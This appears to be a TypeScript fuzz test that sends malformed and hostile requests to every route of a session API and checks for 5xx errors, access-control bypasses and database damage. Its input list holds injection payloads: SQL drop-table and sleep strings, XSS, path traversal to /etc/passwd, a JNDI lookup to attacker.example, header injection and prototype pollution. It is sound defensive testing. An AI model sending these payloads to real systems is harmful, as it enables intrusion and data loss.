// Fuzzes every route of the API with a seeded generator: malformed JSON, wrong types, huge bodies,
// unicode (emoji, RTL, NUL, lone surrogates) and injection-shaped strings in every field, query
// parameter, path segment and header, under every kind of credential (the operator key, a session's
// viewer token as a header or cookie, garbage, none). Every answer must be 4xx (2xx where the input
// is valid), never 5xx; no 2xx may go to a caller the route's access rule leaves out (anonymous,
// another session's viewer, a viewer on an operator route, a cross-origin cookie change); the server
// must stay up and the sessions table must still exist.
// FUZZ_SEED and FUZZ_REQUESTS change the run; the seed is printed so a failure can be replayed.
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, test } from 'node:test';
import { sql } from 'kysely';
import { type TestStack, startTestStack } from '../support/stack.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20251122);
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 400);

let stack: TestStack;
before(async () => {
  // A limit high enough that the fuzz reaches the handlers (limits.test.ts covers the 429s).
  stack = await startTestStack({ env: { API_RATE_LIMIT: '100000', API_RATE_BURST: '100000' } });
});
after(async () => {
  await stack?.close();
});

/** mulberry32: small, fast, seedable. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const NASTY = [
  "'; drop table sessions; --",
  '" OR 1=1 --',
  "1'; SELECT pg_sleep(5); --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '%00',
  '\u0000',
  'a\u0000b',
  '🎬🍿📺',
  '👨‍👩‍👧‍👦',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\uFEFF',
  '\r\nSet-Cookie: x=1',
  '',
  ' ',
  '\t\n',
  'null',
  'true',
  '-1',
  '1e309',
  'NaN',
  '__proto__',
  'constructor',
  'x'.repeat(513),
  'x'.repeat(20_000),
  'demo-small',
  'no-such-key',
  'valid_id-123',
  'A'.repeat(64),
  'A'.repeat(65),
  'COMPLETED',
];

/** Who the request claims to be: what the access oracle judges a 2xx by. */
type Credential = { kind: 'key' } | { kind: 'viewer'; sessionId: string; via: 'header' | 'cookie' } | { kind: 'none' };

interface Fuzz {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  route: string;
  credential: Credential;
  /** The raw session segment of a session route (a known id, or a nasty string). */
  session?: string;
}

/** Routes and who besides an operator key may get a 2xx from them. */
type Access = 'public' | 'viewer' | 'operator';

function generator(seed: number) {
  const r = rng(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(r() * items.length)];
  const chance = (p: number) => r() < p;
  const knownIds: string[] = [];
  const knownTokens: { sessionId: string; token: string }[] = [];

  const str = () => pick(NASTY);
  const value = (depth = 0): unknown => {
    const kind = Math.floor(r() * 10);
    if (kind <= 4) return str();
    if (kind === 5) return pick([0, -1, 1e308, 2 ** 53 + 1, 3.14, -0]);
    if (kind === 6) return pick([true, false, null]);
    if (kind === 7) return depth > 2 ? [] : [value(depth + 1), value(depth + 1)];
    if (kind === 8) return depth > 2 ? {} : { [str().slice(0, 40)]: value(depth + 1), $gt: '' };
    return pick(['demo-small', 'no-such-key-fuzz', `fuzz-${Math.floor(r() * 1e9)}`]);
  };
  /** Percent-encodes what the HTTP client refuses, but keeps `..`, `%`, `/`-free raw forms. */
  const pct = (s: string, keepPercent: boolean) =>
    [...Buffer.from(s, 'utf8')].map((b) => (b > 0x20 && b < 0x7f && b !== 0x2f && b !== 0x3f && b !== 0x23 && (keepPercent || b !== 0x25) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
  const segment = () => {
    if (knownIds.length > 0 && chance(0.15)) return pick(knownIds);
    const s = str();
    return chance(0.3) ? pct(s, true) : pct(s, false); // sometimes a raw `%` (malformed escapes)
  };
  const query = (names: string[]) => {
    const parts: string[] = [];
    for (const name of names) if (chance(0.7)) parts.push(`${name}=${pct(String(value()), chance(0.2))}`);
    if (chance(0.3)) parts.push(`${pct(str(), false)}=${pct(str(), false)}`);
    if (chance(0.2)) parts.push(`${pick(names.length ? names : ['x'])}[$gt]=`);
    if (chance(0.15) && names.length) parts.push(`${names[0]}=a`, `${names[0]}=b`); // repeated key
    return parts.length ? `?${parts.join('&')}` : '';
  };
  const jsonBody = (fields: string[]): Buffer => {
    const kind = Math.floor(r() * 12);
    if (kind === 0) return Buffer.from(pick(['{', '{"dataKey": ', 'nul', '{"a":1}garbage', "{'dataKey':'x'}", '[', '{"dataKey":"\\ud800"}', '{"dataKey":"\\u0000"}']));
    if (kind === 1) return Buffer.from(pick(['null', '[]', '"string"', '123', 'true', '{}']));
    if (kind === 2) return Buffer.from(`${'['.repeat(4000)}${']'.repeat(4000)}`);
    if (kind === 3) return Buffer.from(JSON.stringify({ dataKey: 'x'.repeat(pick([17 * 1024, 200 * 1024, 1024 * 1024])) }));
    if (kind === 4) return Buffer.from([0xff, 0xfe, 0x7b, 0x22, 0xc3, 0x28, 0x7d]); // invalid UTF-8
    if (kind === 5) return Buffer.from('{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}}');
    const body: Record<string, unknown> = {};
    for (const f of fields) if (chance(0.75)) body[f] = value();
    if (chance(0.2)) body[str().slice(0, 30)] = value();
    return Buffer.from(JSON.stringify(body));
  };
  const contentType = () =>
    pick(['application/json', 'application/json', 'application/json', 'application/json; charset=utf-8', 'text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=latin1', '']);
  let credential: Credential = { kind: 'none' };
  /** Sets `credential` for the request being made, and returns its headers. */
  const auth = (): Record<string, string> => {
    const roll = r();
    if (roll < 0.7) {
      credential = { kind: 'key' };
      return { authorization: `Bearer ${stack.apiKey}` };
    }
    if (roll < 0.85 && knownTokens.length > 0) {
      const { sessionId, token } = pick(knownTokens);
      if (chance(0.5)) {
        credential = { kind: 'viewer', sessionId, via: 'header' };
        return { authorization: `Bearer ${token}` };
      }
      credential = { kind: 'viewer', sessionId, via: 'cookie' };
      // A cookie change must come from this origin: sometimes it does, sometimes another site's, sometimes no Origin at all.
      const origin = pick([stack.apiUrl, 'https://evil.example', undefined]);
      return { cookie: `sp_viewer=${token}`, ...(origin ? { origin } : {}) };
    }
    credential = { kind: 'none' };
    if (chance(0.4)) return {};
    if (chance(0.5) && knownTokens.length > 0) {
      // A forged or mangled viewer token: never a credential.
      const { token } = pick(knownTokens);
      return chance(0.5) ? { authorization: `Bearer ${token.slice(0, -2)}xx` } : { cookie: `sp_viewer=${token.replace('.', '.9')}` };
    }
    return { authorization: `Bearer ${pct(str(), true).slice(0, 200)}` };
  };
  const idem = (): Record<string, string> => (chance(0.3) ? { 'idempotency-key': chance(0.5) ? `fuzz-${Math.floor(r() * 20)}` : pct(str(), true).slice(0, 300) } : {});

  type Made = Omit<Fuzz, 'credential'>;
  const routes: { weight: number; access: Access; make: () => Made }[] = [
    { weight: 3, access: 'operator', make: () => ({ route: 'POST /api/sessions', method: 'POST', path: `/api/sessions${query([])}`, headers: { ...auth(), ...idem(), 'content-type': contentType() }, body: jsonBody(['dataKey', 'sessionId']) }) },
    { weight: 2, access: 'operator', make: () => ({ route: 'GET /api/sessions', method: 'GET', path: `/api/sessions${query(['limit', 'state'])}`, headers: auth() }) },
    { weight: 2, access: 'viewer', make: () => session((id) => ({ route: 'GET /api/sessions/:id', method: 'GET', path: `/api/sessions/${id}${query(['x'])}`, headers: auth() })) },
    { weight: 1, access: 'viewer', make: () => session((id) => ({ route: 'GET /api/sessions/:id/report', method: 'GET', path: `/api/sessions/${id}/report`, headers: auth() })) },
    { weight: 1, access: 'viewer', make: () => session((id) => ({ route: 'GET /api/sessions/:id/events', method: 'GET', path: `/api/sessions/${id}/events`, headers: { ...auth(), accept: 'text/event-stream' } })) },
    { weight: 2, access: 'viewer', make: () => session((id) => ({ route: 'POST /api/sessions/:id/connect', method: 'POST', path: `/api/sessions/${id}/connect`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody(['dataKey']) })) },
    { weight: 1, access: 'operator', make: () => session((id) => ({ route: 'POST /api/sessions/:id/cancel', method: 'POST', path: `/api/sessions/${id}/cancel`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody([]) })) },
    { weight: 1, access: 'viewer', make: () => session((id) => ({ route: 'DELETE /api/sessions/:id', method: 'DELETE', path: `/api/sessions/${id}`, headers: auth() })) },
    { weight: 1, access: 'operator', make: () => session((id) => ({ route: 'GET /api/sessions/:id/failures', method: 'GET', path: `/api/sessions/${id}/failures${query(['all'])}`, headers: auth() })) },
    { weight: 1, access: 'operator', make: () => session((id) => ({ route: 'POST /api/sessions/:id/failures/redrive', method: 'POST', path: `/api/sessions/${id}/failures/redrive`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody([]) })) },
    { weight: 1, access: 'operator', make: () => session((id) => ({ route: 'POST /api/sessions/:id/schedule', method: 'POST', path: `/api/sessions/${id}/schedule${pick(['', '/pause', '/resume'])}`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody(['dataKey', 'every', 'note']) })) },
    { weight: 1, access: 'operator', make: () => session((id) => ({ route: 'GET|DELETE /api/sessions/:id/schedule', method: pick(['GET', 'DELETE']), path: `/api/sessions/${id}/schedule`, headers: auth() })) },
    { weight: 2, access: 'public', make: () => ({ route: 'GET /api/callback', method: 'GET', path: `/api/callback${query(['sessionID', 'dataKey', 'ts', 'sig'])}`, headers: { ...auth(), accept: pick(['application/json', 'text/html', '*/*']) } }) },
    { weight: 1, access: 'public', make: () => ({ route: 'GET /api/demo-keys', method: 'GET', path: `/api/demo-keys${query(['x'])}`, headers: auth() }) },
    { weight: 1, access: 'operator', make: () => ({ route: 'GET /api/keys|/metrics', method: 'GET', path: `${pick(['/api/keys', '/metrics'])}${query(['x'])}`, headers: auth() }) },
    { weight: 2, access: 'operator', make: () => ({ route: 'POST /codec/*', method: 'POST', path: `/codec/${pick(['encode', 'decode'])}`, headers: { ...auth(), 'content-type': contentType() }, body: codecBody() }) },
    { weight: 1, access: 'public', make: () => ({ route: 'static', method: pick(['GET', 'HEAD']), path: `/${segment()}/${segment()}`, headers: auth() }) },
    { weight: 1, access: 'public', make: () => ({ route: 'other methods', method: pick(['PUT', 'PATCH', 'DELETE', 'OPTIONS']), path: pick(['/api/sessions', `/api/sessions/${segment()}`, `/api/sessions/${segment()}/report`, '/codec/decode', '/']), headers: { ...auth(), 'content-type': contentType(), origin: pick(['http://127.0.0.1:8233', 'https://evil.example']) }, body: jsonBody(['dataKey']) }) },
  ];
  /** A session route: the segment is remembered for the access oracle. */
  function session(make: (segment: string) => Made): Made {
    const id = segment();
    return { ...make(id), session: id };
  }
  function codecBody(): Buffer {
    if (chance(0.4)) return jsonBody(['payloads']);
    const payloads = Array.from({ length: 1 + Math.floor(r() * 3) }, () => ({
      metadata: chance(0.5) ? { encoding: Buffer.from(pick(['binary/encrypted', 'json/plain', str()])).toString('base64'), 'encryption-key-id': pct(str(), true) } : value(),
      data: chance(0.6) ? Buffer.from(str()).toString('base64') : value(),
    }));
    return Buffer.from(JSON.stringify({ payloads }));
  }
  const total = routes.reduce((n, x) => n + x.weight, 0);
  return {
    next(): Fuzz & { access: Access } {
      let roll = r() * total;
      const route = routes.find((x) => (roll -= x.weight) < 0) ?? routes[0];
      credential = { kind: 'none' };
      const made = route.make();
      return { ...made, credential, access: route.access };
    },
    remember(id: string, viewerToken?: string) {
      knownIds.push(id);
      if (viewerToken) knownTokens.push({ sessionId: id, token: viewerToken });
    },
  };
}

/**
 * The access oracle: may this caller get a 2xx here at all? An operator key may (the scopes are all
 * there); a viewer only on its own session's viewer routes (and a cookie change only from this
 * origin); nobody else outside the public routes.
 */
function mayPass(f: Fuzz & { access: Access }): boolean {
  if (f.access === 'public') return true;
  const who = f.credential;
  if (who.kind === 'key') return true;
  if (who.kind === 'none' || f.access === 'operator') return false;
  if (f.session !== who.sessionId) return false;
  if (who.via === 'cookie' && f.method !== 'GET' && f.headers.origin !== stack.apiUrl) return false;
  return true;
}

/** The oracle for POST /api/sessions: would a careful reader of the API accept this request? */
function validStart(f: Fuzz): boolean {
  const auth = f.headers.authorization ?? '';
  if (auth !== `Bearer ${stack.apiKey}`) return false;
  const key = f.headers['idempotency-key'];
  if (key !== undefined && !/^[\x21-\x7e]{1,255}$/.test(key)) return false;
  const type = f.headers['content-type'] ?? '';
  if (!type.startsWith('application/json')) return true; // not JSON: no body, which is a valid start
  if (/charset=(?!utf-8)/i.test(type) || f.body!.length > 16 * 1024) return false;
  let body: unknown;
  try {
    body = JSON.parse(f.body!.toString('utf8'));
  } catch {
    return false;
  }
  if (!body || typeof body !== 'object' || Array.isArray(body)) return false;
  const { dataKey, sessionId, ...rest } = body as Record<string, unknown>;
  if (Object.keys(rest).length > 0) return false;
  if (dataKey !== undefined && (typeof dataKey !== 'string' || dataKey.trim().length < 1 || dataKey.trim().length > 512)) return false;
  if (sessionId !== undefined && (typeof sessionId !== 'string' || !/^[A-Za-z0-9_-]{1,64}$/.test(sessionId))) return false;
  return true;
}

interface Answer {
  status: number;
  body: string;
  contentType: string;
}

function send(base: string, f: Fuzz): Promise<Answer> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const headers: Record<string, string | number> = { ...f.headers };
    if (!headers['content-type']) delete headers['content-type'];
    if (f.body) headers['content-length'] = f.body.length;
    // Forgetting a session waits for its receipt (up to 30 s): give it longer than the rest.
    const timeout = f.method === 'DELETE' ? 45_000 : 15_000;
    const req = request({ host: url.hostname, port: url.port, method: f.method, path: f.path, headers, timeout }, (res) => {
      const contentType = String(res.headers['content-type'] ?? '');
      const chunks: Buffer[] = [];
      if (contentType.startsWith('text/event-stream')) {
        // A live progress stream stays open: its status is the answer.
        res.destroy();
        return resolve({ status: res.statusCode ?? 0, body: '', contentType });
      }
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), contentType }));
      res.on('error', reject);
    });
    req.on('timeout', () => req.destroy(new Error('timed out')));
    req.on('error', reject);
    // The server may answer (413, 401) and close before reading a huge body: that is fine.
    if (f.body) req.end(f.body);
    else req.end();
  });
}

test(`fuzz: ${REQUESTS} generated requests over every route get no 5xx`, async () => {
  const gen = generator(SEED);
  const byClass: Record<string, number> = {};
  const byRoute: Record<string, Record<string, number>> = {};
  const byCredential: Record<string, Record<string, number>> = {};
  /** 5xx answers, and 2xx answers to input the oracle calls invalid. */
  const serverErrors: string[] = [];
  let tried = 0;
  let resets = 0;
  for (let i = 0; i < REQUESTS; i++) {
    const f = gen.next();
    let answer: Answer;
    try {
      answer = await send(stack.apiUrl, f);
    } catch (error) {
      // Only a refused huge body may end in a reset (the server answered and closed mid-upload).
      const code = (error as NodeJS.ErrnoException).code;
      if ((code === 'ECONNRESET' || code === 'EPIPE') && (f.body?.length ?? 0) > 16 * 1024) {
        resets++;
        tried++;
        continue;
      }
      throw new Error(`request ${i} (${f.method} ${f.path.slice(0, 120)}) failed: ${(error as Error).message}`);
    }
    tried++;
    const cls = `${Math.floor(answer.status / 100)}xx`;
    byClass[cls] = (byClass[cls] ?? 0) + 1;
    (byRoute[f.route] ??= {})[cls] = (byRoute[f.route][cls] ?? 0) + 1;
    if (answer.status >= 500 || answer.status < 200) {
      serverErrors.push(`#${i} ${f.method} ${f.path.slice(0, 150)} → ${answer.status} ${answer.body.slice(0, 200)}`);
    }
    if (answer.status >= 400 && answer.contentType.includes('json') && f.method !== 'HEAD') {
      const parsed = JSON.parse(answer.body) as { error?: { code?: string; message?: string } };
      assert.ok(parsed.error?.code && parsed.error.message, `#${i} error body ${answer.body.slice(0, 300)}`);
    }
    if (f.route === 'POST /api/sessions' && answer.status < 300 && !validStart(f)) {
      serverErrors.push(`#${i} accepted an invalid start: ${f.body?.toString('utf8').slice(0, 150)} (${JSON.stringify(f.headers).slice(0, 200)})`);
    }
    if (answer.status >= 200 && answer.status < 300 && !mayPass(f)) {
      serverErrors.push(`#${i} ${f.method} ${f.path.slice(0, 120)} → ${answer.status} to a caller it must refuse (${JSON.stringify(f.credential)}, origin ${f.headers.origin ?? 'none'})`);
    }
    if (f.route === 'POST /api/sessions' && answer.status === 202) {
      const started = JSON.parse(answer.body) as { sessionId: string; viewerToken?: string };
      assert.ok(started.viewerToken, `#${i} an operator's start carries the viewer token`);
      gen.remember(started.sessionId, started.viewerToken);
    }
    (byCredential[f.credential.kind] ??= {})[cls] = (byCredential[f.credential.kind][cls] ?? 0) + 1;
    if (i % 50 === 49) assert.equal((await fetch(`${stack.apiUrl}/healthz`)).status, 200, `server down after request ${i}`);
  }

  const fiveXX = byClass['5xx'] ?? 0;
  console.log(`fuzz seed=${SEED}: ${tried} inputs tried, ${fiveXX} 5xx, ${serverErrors.length - fiveXX} invalid starts accepted; by class ${JSON.stringify(byClass)}; ${resets} connections reset after a refused huge body`);
  for (const [route, counts] of Object.entries(byRoute)) console.log(`  ${route}: ${JSON.stringify(counts)}`);
  console.log(`  by credential: ${JSON.stringify(byCredential)}`);
  assert.deepEqual(serverErrors, []);
  // Every kind of caller was tried, and viewers got through somewhere (the oracle is not vacuous).
  assert.ok(['key', 'viewer', 'none'].every((k) => byCredential[k]), JSON.stringify(byCredential));
  assert.ok((byCredential.viewer['2xx'] ?? 0) > 0, 'some viewer requests reached their own session');

  // Still up, still serving, and no injection reached the database.
  assert.equal((await fetch(`${stack.apiUrl}/healthz`)).status, 200);
  assert.equal((await fetch(`${stack.apiUrl}/api/sessions`, { headers: { authorization: `Bearer ${stack.apiKey}` } })).status, 200);
  assert.equal((await fetch(`${stack.apiUrl}/api/sessions`)).status, 401);
  const table = await sql<{ t: string | null }>`select to_regclass('public.sessions')::text as t`.execute(stack.db.db);
  assert.equal(table.rows[0].t, 'sessions');
});
